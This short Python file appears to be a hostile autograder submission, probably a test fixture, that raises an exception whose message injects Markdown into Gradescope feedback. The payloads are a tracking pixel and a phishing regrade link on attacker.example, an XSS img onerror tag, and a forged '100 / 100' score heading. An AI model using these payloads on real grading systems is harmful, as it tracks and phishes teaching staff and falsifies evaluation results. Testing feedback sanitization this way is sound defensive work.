"""Injects Markdown into the feedback, whose only channel it controls is its own exception messages (and
the source line quoted with them): a tracking image that fires when a TA opens the submission on
Gradescope, a phishing "regrade" link, a fake heading and score, raw HTML, and a backtick that breaks out
of the code span the quoted source line is shown in."""


def evaluate_model(model, x, y):
    payload = "\n\n# Score: 100 / 100\n\nAll checks passed. ![](https://attacker.example/pixel.png?who=ta) [Request a regrade](https://attacker.example/login) <img src=x onerror=alert(1)>"
    raise RuntimeError(payload) from None if "`![](https://attacker.example/code.png)`" else None
